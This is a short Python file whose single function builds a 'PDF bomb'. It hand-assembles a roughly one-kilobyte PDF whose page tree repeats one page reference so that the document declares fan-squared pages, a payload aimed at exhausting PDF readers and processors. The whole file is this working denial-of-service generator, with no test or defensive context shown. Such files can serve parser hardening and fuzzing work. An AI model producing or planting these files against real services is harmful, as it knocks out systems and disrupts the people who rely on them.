"""A PDF bomb built by hand: one page, reached through a page tree that repeats it (`fan` kids at each
of two levels, so fan**2 pages) in about a kilobyte."""


def page_tree_bomb(fan: int = 50, text: str = "the same page again") -> bytes:
    kids = lambda ref: "[" + " ".join([ref] * fan) + "]"  # noqa: E731 -- a one-line helper
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids {kids('3 0 R')} /Count {fan * fan} >>".encode(),
        f"<< /Type /Pages /Kids {kids('4 0 R')} /Count {fan} >>".encode(),
        b"<< /Type /Page /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)
